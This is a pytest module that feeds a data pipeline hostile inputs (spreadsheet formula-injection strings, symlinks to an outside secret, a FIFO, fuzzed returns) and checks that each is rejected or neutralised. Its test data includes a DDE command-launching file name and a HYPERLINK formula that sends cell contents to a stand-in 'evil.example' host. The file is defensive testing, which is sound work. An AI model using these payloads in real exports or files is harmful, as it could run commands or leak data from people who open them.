"""One real run (`python -m assets.run`, a separate process) over an inputs folder holding every
hostile and broken file of the catalogue, valid returns under names in many scripts, symbolic
links to files outside the folder, a FIFO, fuzzed copies of a return and a return whose text a
spreadsheet would run as formulas. The run must complete under 1 GiB and leave every file in a
status, each hostile one rejected for its reason, and nothing from outside the folder received."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import random
import shutil
import subprocess
from dataclasses import dataclass
from pathlib import Path

import openpyxl
import pytest

from pipelines.forms.return_writer import render_return
from tests.conftest import query, sample_return
from tests.hostile import hostile_files as hf
from tests.hostile.runner import GIB, Run, run_pipeline_process

pytestmark = pytest.mark.slow

FINAL_STATUSES = {"ACCEPTED", "ACCEPTED_WITH_WARNINGS", "REJECTED", "SUPERSEDED", "DUPLICATE"}

# Valid returns under names a ministry might give them: file name -> the state whose return it is.
NAMES = {
    "Кыргызстан отчёт 2023.xlsx": "KGZ",
    "تقرير مصر ٢٠٢٣.xlsx": "EGY",
    "日本 報告書 2023.xlsx": "JPN",
    "Ελλάδα 2023.xlsx": "GRC",
    "भारत रिपोर्ट 2023.xlsx": "IND",
    "📊 México 2023.xlsx": "MEX",
    "\u202eright-to-left override\u202c 2023.xlsx": "PER",
    'O\'Brien "final", v2; Ireland.xlsx': "IRL",
    "line one\nline two.xlsx": "NZL",
    "A" * 250 + ".xlsx": "AUS",  # 255 bytes: the longest name the file system allows
    "Ж" * 125 + ".xlsx": "UKR",  # 255 bytes in UTF-8, 130 characters
    "=cmd|' -C calc'!A0.xlsx": "BRA",  # a spreadsheet would run this name as a formula
    "@SUM(1+1) 2023.xlsx": "ARG",
    "+1 2023.xlsx": "CHL",
    "-1 2023.xlsx": "COL",
}
# A name whose bytes are not UTF-8 (Latin-1, as an old zip tool writes it), and how it is reported.
LATIN1_NAME = b"caf\xe9 r\xe9sum\xe9 2023.xlsx"
LATIN1_REPORTED = "caf\\xe9 r\\xe9sum\\xe9 2023.xlsx"
LATIN1_STATE = "FRA"
# Text a spreadsheet would run, in a return of its own: each must reach the CSV with a leading '.
FORMULA_TITLES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "@SUM(1,2)"]
FORMULA_PARTNER = "-2+3"
FORMULA_DESCRIPTION = "=1+1"
FUZZED = 16


@dataclass(frozen=True)
class Drop:
    root: Path
    inputs: Path
    warehouse: Path
    run: Run
    hostile: dict[str, hf.Hostile]  # file name -> what it must get
    outside_sha256: set[str]  # files outside the inputs that links point at


@pytest.fixture(scope="module")
def drop(tmp_path_factory) -> Drop:
    root = tmp_path_factory.mktemp("hostile_drop")
    inputs, warehouse, outside = root / "inputs", root / "warehouse", root / "outside"
    for folder in (inputs, outside / "folder"):
        folder.mkdir(parents=True)
    secret = outside / "secret.txt"
    secret.write_text(hf.SECRET_MARKER, encoding="utf-8")
    hostile = {h.file_name: h for h in hf.catalogue(secret)}
    for name, item in hostile.items():
        (inputs / name).write_bytes(item.build())
    write_named_returns(inputs)
    write_formula_return(inputs)
    write_fuzzed(inputs)
    outside_sha256 = plant_links(inputs, outside)
    run = run_pipeline_process(inputs, warehouse)
    return Drop(root, inputs, warehouse, run, hostile, outside_sha256)


def write_named_returns(inputs: Path) -> None:
    for name, iso3 in NAMES.items():
        (inputs / name).write_bytes(render_return(sample_return(iso3)))
    fd = os.open(os.fsencode(inputs) + b"/" + LATIN1_NAME, os.O_WRONLY | os.O_CREAT, 0o644)
    with os.fdopen(fd, "wb") as handle:
        handle.write(render_return(sample_return(LATIN1_STATE)))


def write_formula_return(inputs: Path) -> None:
    content = sample_return("DEU")
    for activity, title in zip(content.activities, FORMULA_TITLES, strict=True):
        activity.title = title  # each must be published with a leading '
    content.activities[0].partners = [FORMULA_PARTNER]
    content.outcomes[0].description = FORMULA_DESCRIPTION
    (inputs / "DEU_2023.xlsx").write_bytes(render_return(content))


def write_fuzzed(inputs: Path) -> None:
    """Byte mutations of a valid return: flipped bytes, cut short, or bytes inserted."""
    base = render_return(sample_return("NOR"))
    rng = random.Random(20261128)
    for number in range(FUZZED):
        data = bytearray(base)
        kind = number % 3
        if kind == 0:
            for _ in range(rng.randint(1, 20)):
                data[rng.randrange(len(data))] = rng.randrange(256)
        elif kind == 1:
            del data[rng.randrange(30, len(data)) :]
        else:
            at = rng.randrange(len(data))
            data[at:at] = rng.randbytes(rng.randint(1, 64))
        (inputs / f"fuzzed_{number:02d}.xlsx").write_bytes(bytes(data))


def plant_links(inputs: Path, outside: Path) -> set[str]:
    """Links from the inputs folder to returns outside it, a dangling link and a FIFO."""
    target = outside / "CHE_2023.xlsx"
    target.write_bytes(render_return(sample_return("CHE")))
    folder_return = outside / "folder" / "NOR_2022.xlsx"
    folder_return.write_bytes(render_return(sample_return("NOR", 2022)))
    (inputs / "linked_return.xlsx").symlink_to(target)
    (inputs / "linked_folder").symlink_to(outside / "folder", target_is_directory=True)
    (inputs / "dangling.xlsx").symlink_to(outside / "nowhere.xlsx")
    (inputs / "secret.txt").symlink_to(outside / "secret.txt")
    os.mkfifo(inputs / "pipe.xlsx")  # opening it for reading would block the run forever
    return {
        hashlib.sha256(p.read_bytes()).hexdigest() for p in (target, folder_return, outside / "secret.txt")
    }


def statuses(warehouse: Path) -> dict[str, str]:
    return dict(query(warehouse, "SELECT rel_path, status FROM received.submissions"))


def release_rows(warehouse: Path, file_name: str) -> list[dict[str, str]]:
    text = (warehouse / "releases" / "latest" / file_name).read_text(encoding="utf-8")
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_the_run_completes_in_bounded_memory(drop):
    print(f"hostile drop: {drop.run.summary}")  # shown with -rP; kept in CI logs
    assert drop.run.returncode == 0, drop.run
    assert drop.run.peak_rss_bytes < GIB, drop.run


def test_each_hostile_file_is_rejected_with_its_reason(drop):
    found = statuses(drop.warehouse)
    rejections = {
        rel_path: (rule, message)
        for rel_path, rule, message in query(
            drop.warehouse,
            "SELECT s.rel_path, f.rule, f.message FROM parsed.findings f "
            "JOIN received.submissions s USING (submission_id) WHERE f.action = 'reject'",
        )
    }
    wrong = {}
    for name, item in drop.hostile.items():
        rule, message = rejections.get(name, (None, ""))
        if found.get(name) != "REJECTED" or rule != item.rule or item.mentions not in message:
            wrong[name] = (found.get(name), rule, message)
    assert wrong == {}


def test_every_file_ends_in_a_status_and_a_coverage_row(drop):
    found = statuses(drop.warehouse)
    received = len(drop.hostile) + len(NAMES) + 1 + 1 + FUZZED  # + the Latin-1 name, the formula return
    assert len(found) == received
    assert set(found.values()) <= FINAL_STATUSES, sorted(set(found.values()))
    coverage = release_rows(drop.warehouse, "coverage.csv")
    assert sorted(row["submission_id"] for row in coverage) == sorted(
        row[0] for row in query(drop.warehouse, "SELECT submission_id FROM received.submissions")
    )
    fuzzed = {name: status for name, status in found.items() if name.startswith("fuzzed_")}
    assert len(fuzzed) == FUZZED and "REJECTED" in fuzzed.values()


def test_nothing_outside_the_inputs_is_received_archived_or_extracted(drop):
    received = set(statuses(drop.warehouse))
    assert not {"linked_return.xlsx", "dangling.xlsx", "secret.txt", "pipe.xlsx"} & received
    assert not any(name.startswith("linked_folder/") for name in received)
    archived = {p.name for p in (drop.warehouse / "archive").rglob("*") if p.is_file()}
    assert drop.outside_sha256.isdisjoint(archived)
    assert len(archived) == len(set(query(drop.warehouse, "SELECT sha256 FROM received.submissions")))
    assert [p for p in drop.root.rglob("evil.txt")] == []  # the zip-slip parts were never extracted
    assert not Path("/tmp/evil.txt").exists()
    cells = query(
        drop.warehouse, "SELECT count(*) FROM parsed.cells WHERE raw LIKE ?", [f"%{hf.SECRET_MARKER}%"]
    )
    assert cells == [(0,)]
    for path in (drop.warehouse / "releases" / "latest").iterdir():
        assert hf.SECRET_MARKER.encode() not in path.read_bytes(), path


def test_file_names_in_any_script_are_received_and_reported_as_they_are(drop):
    found = statuses(drop.warehouse)
    for name in [*NAMES, LATIN1_REPORTED]:
        assert found.get(name) in {"ACCEPTED", "ACCEPTED_WITH_WARNINGS"}, (name, found.get(name))
    names = {row[0] for row in query(drop.warehouse, "SELECT file_name FROM received.submissions")}
    assert {*NAMES, LATIN1_REPORTED} <= names
    published = {row["file_name"] for row in release_rows(drop.warehouse, "coverage.csv")}
    expected = {("'" + name) if name[0] in "=+-@" else name for name in [*NAMES, LATIN1_REPORTED]}
    assert expected <= published
    iso3 = {row["iso3"] for row in release_rows(drop.warehouse, "activities.csv")}
    assert {*NAMES.values(), LATIN1_STATE} <= iso3


def test_text_a_spreadsheet_would_run_is_neutralised_in_the_csvs_and_kept_in_the_warehouse(drop):
    activities = [row for row in release_rows(drop.warehouse, "activities.csv") if row["iso3"] == "DEU"]
    assert sorted(row["title"] for row in activities) == sorted("'" + title for title in FORMULA_TITLES)
    assert "'" + FORMULA_PARTNER in {row["partners"] for row in activities}
    outcomes = [
        row for row in release_rows(drop.warehouse, "assistance_outcomes.csv") if row["iso3"] == "DEU"
    ]
    assert "'" + FORMULA_DESCRIPTION in {row["description"] for row in outcomes}
    kept = query(
        drop.warehouse, "SELECT title FROM validated.activities WHERE title = ?", [FORMULA_TITLES[0]]
    )
    assert kept == [(FORMULA_TITLES[0],)]  # the warehouse keeps the text as sent


def test_a_spreadsheet_opening_the_release_runs_no_formula(drop, tmp_path):
    """LibreOffice, told to evaluate formulas, imports the release's CSVs: no cell holds a formula,
    while the same rows written without the leading ' would (the control)."""
    soffice = shutil.which("soffice")
    if soffice is None:
        if os.environ.get("CI"):
            pytest.fail("soffice (LibreOffice) is missing; CI installs it in .ci/run")
        pytest.skip("soffice (LibreOffice) is not installed")
    latest = drop.warehouse / "releases" / "latest"
    released = tmp_path / "released"
    released.mkdir()
    control = tmp_path / "control"
    control.mkdir()
    for name in ("activities.csv", "coverage.csv"):
        data = (latest / name).read_bytes()
        (released / name).write_bytes(data)
        # as a careless writer would: no leading ', whether the field is quoted or not
        (control / name).write_bytes(data.replace(b",'", b",").replace(b",\"'", b',"'))
    formulas = {}
    for folder in (released, control):
        for converted in convert_with_formulas(soffice, folder, tmp_path):
            workbook = openpyxl.load_workbook(converted)
            formulas[(folder.name, converted.stem + ".csv")] = [
                cell.value for row in workbook.active.iter_rows() for cell in row if cell.data_type == "f"
            ]
    assert formulas[("control", "activities.csv")], "the control must show LibreOffice evaluating formulas"
    assert formulas[("released", "activities.csv")] == []
    assert formulas[("released", "coverage.csv")] == []


def convert_with_formulas(soffice: str, folder: Path, work: Path) -> list[Path]:
    """The CSVs in `folder` imported by LibreOffice as comma-separated UTF-8 with "evaluate
    formulas" on, each saved as .xlsx."""
    # CSV filter options: separator 44 (,), quote 34 ("), charset 76 (UTF-8), start at line 1,
    # no column formats, language default, quoted fields as text off, detect special numbers on,
    # (export options), then token 13: evaluate formulas = true.
    options = "44,34,76,1,,0,false,true,false,false,false,-1,true"
    out = work / f"converted_{folder.name}"
    out.mkdir(exist_ok=True)
    sources = sorted(folder.glob("*.csv"))
    profile = work / "lo_profile"
    subprocess.run(
        [
            soffice,
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            f"--infilter=CSV:{options}",
            "--convert-to",
            "xlsx",
            "--outdir",
            str(out),
            *map(str, sources),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    return [out / source.with_suffix(".xlsx").name for source in sources]
